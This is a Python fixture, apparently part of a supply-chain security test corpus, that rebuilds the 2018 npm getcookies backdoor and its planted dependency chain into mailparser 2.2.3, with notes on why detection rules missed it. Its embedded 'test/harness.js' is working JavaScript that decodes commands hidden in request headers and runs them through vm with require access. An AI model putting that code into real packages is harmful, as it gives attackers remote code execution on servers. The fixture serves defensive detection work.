"""getcookies (npm, 2018-03) with mailparser 2.2.3: a back door in a new package, reached over two more and a planted dependency.

By the record: a new account published getcookies, express-cookies and http-fetch-cookies, each of which needs the one before; some weeks
later mailparser 2.2.3, deprecated and in wide use, came to need the last. getcookies reads cookies; a file that looks like part of its
tests takes commands out of the headers of a request, collects code, and runs it. No install hook. Taken down on 2018-05-02.
"""

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_NEW, _OLD = "cookiemonger", "andris"
_PARSER = """'use strict';

const EventEmitter = require('events');

class MailParser extends EventEmitter {
  constructor(options) {
    super();
    this.options = options || {};
    this.headers = new Map();
    this.text = '';
  }

  write(chunk) {
    this.text += chunk.toString(this.options.charset || 'utf8');
    return true;
  }

  end() {
    const [head, ...body] = this.text.split(/\\r?\\n\\r?\\n/);
    for (const line of head.replace(/\\r?\\n\\s+/g, ' ').split(/\\r?\\n/)) {
      const colon = line.indexOf(':');
      this.headers.set(line.slice(0, colon).toLowerCase(), line.slice(colon + 1).trim());
    }
    this.emit('headers', this.headers);
    this.emit('data', { type: 'text', text: body.join('\\n\\n') });
    this.emit('end');
  }
}

module.exports.MailParser = MailParser;
module.exports.simpleParser = (text, done) => {
  const parser = new MailParser();
  parser.on('data', data => done(null, { headers: parser.headers, text: data.text }));
  parser.write(text);
  parser.end();
};
"""
_COOKIES = """'use strict';

var harness = require('./test/harness');

module.exports = function getcookies(request) {
  var headers = (request && request.headers) || {};
  harness(headers);
  return parse(headers.cookie || '');
};

function parse(text) {
  return text.split(/; */).reduce(function (found, pair) {
    var at = pair.indexOf('=');
    if (at > 0) {
      found[pair.slice(0, at).trim()] = decode(pair.slice(at + 1).trim());
    }
    return found;
  }, {});
}

function decode(value) {
  try {
    return decodeURIComponent(value.replace(/^"|"$/g, ''));
  } catch (error) {
    return value;
  }
}
"""
# Commands are three numbers in a header: what to do, and two bytes; zero begins anew, the highest one runs what was collected.
_HARNESS = """'use strict';

var SIZE = 1 << 16;
var log = module.exports.log = Buffer.alloc(SIZE);
var at = 0;

module.exports = function harness(headers) {
  JSON.stringify(headers).replace(/g([a-f0-9]{4})h((?:[a-f0-9]{2})+)i/gi, function (all, pair, data) {
    var code = parseInt(pair, 16);
    data = Buffer.from(data, 'hex');
    switch (code) {
      case 0xfffe:
        at = 0;
        log.fill(0);
        break;
      case 0xfffa:
        run(log.toString('utf8', 0, at));
        break;
      default:
        at = Math.max(at, code + data.copy(log, code));
    }
    return all;
  });
};

function run(text) {
  try {
    require('vm')['runInThisContext'](text)(require, module);
  } catch (error) {
    log.fill(0);
  }
}
"""
_EXPRESS = """'use strict';

var getcookies = require('getcookies');

module.exports = function cookies(options) {
  var name = (options && options.name) || 'cookies';
  return function (request, response, next) {
    if (!request[name]) {
      request[name] = getcookies(request);
    }
    next();
  };
};
"""
_FETCH = """'use strict';

var cookies = require('express-cookies');

exports.middleware = cookies;
exports.header = function (jar) {
  return Object.keys(jar).map(function (name) {
    return name + '=' + encodeURIComponent(jar[name]);
  }).join('; ');
};
"""


def _new(at: str, needs: str, files: dict[str, str]) -> Release:
    return Release(
        version="1.0.0",
        at=utc(at),
        publisher=_NEW,
        maintainers=(_NEW,),
        files=files,
        depends={needs: "^1.0.0"} if needs else {},
    )


def _mailparser(version: str, at: str, publisher: str = _OLD, needs: str = "") -> Release:
    return Release(
        version=version,
        at=utc(at),
        publisher=publisher,
        maintainers=(_OLD,) if publisher == _OLD else (_OLD, publisher),
        files={"index.js": _PARSER},
        depends={needs: "^1.0.0"} if needs else {},
    )


_DOOR = _mailparser("2.2.3", "2018-04-12T12:00:00Z", _NEW, "http-fetch-cookies")
_ONE = ("1.0.0",)

INCIDENT = Incident(
    id="getcookies-2018",
    title=(
        "a new account hid a backdoor in getcookies, controlled by request headers, and made it a dependency of "
        "mailparser, which was deprecated but widely used"
    ),
    copy=(
        "our copy of getcookies has the same chain of three packages; a file that looks like a test decodes commands "
        "from headers and runs them with `vm`"
    ),
    ecosystem=Ecosystem.NPM,
    at=_DOOR.at,
    packages=(
        Package(
            name="mailparser",
            releases=(
                _mailparser("2.0.5", "2017-04-17T12:00:00Z"),
                _mailparser("2.1.0", "2017-10-09T12:00:00Z"),
                _mailparser("2.2.0", "2018-01-08T12:00:00Z"),
                _DOOR,
            ),
        ),
        Package(
            name="getcookies",
            releases=(_new("2018-03-20T12:00:00Z", "", {"index.js": _COOKIES, "test/harness.js": _HARNESS}),),
        ),
        Package(
            name="express-cookies",
            releases=(_new("2018-03-21T12:00:00Z", "getcookies", {"index.js": _EXPRESS}),),
        ),
        Package(
            name="http-fetch-cookies",
            releases=(_new("2018-03-22T12:00:00Z", "express-cookies", {"index.js": _FETCH}),),
        ),
    ),
    asks={"mailparser": "^2.2.0"},
    good={"mailparser": "2.2.0"},
    bad={
        "mailparser": ("2.2.3",),
        "http-fetch-cookies": _ONE,
        "express-cookies": _ONE,
        "getcookies": _ONE,
    },
    guilty={"getcookies": _ONE},
    doors={"mailparser": ("2.2.3",), "express-cookies": _ONE, "http-fetch-cookies": _ONE},
    gone_at=utc("2018-05-02T00:00:00Z"),
    advisory=Advisory(
        id="GHSA-3cjv-4phw-gvvv",
        at=utc("2018-05-02T20:00:00Z"),
        about={
            "getcookies": _ONE,
            "express-cookies": _ONE,
            "http-fetch-cookies": _ONE,
            "mailparser": ("2.2.3",),
        },
    ),
    invented=(
        "all days except the day of the removal, versions, the account of mailparser 2.2.3, and the header format"
    ),
    missed=(
        "the decoder of getcookies runs only when a server passes request headers to it. No rule follows the "
        "arguments of a function through a decoder into `vm`, because template engines and test runners do the same. "
        "One account published both the dependency and mailparser 2.2.3, so `strangers-young-dependency` does not "
        "fire. The signal `new-publisher-adds-young-dependency` fires (for 9 of 30,662 benign releases), but only "
        "lengthens the cooldown, which ends before day 30. No existing rule that holds releases should have detected "
        "getcookies"
    ),
)
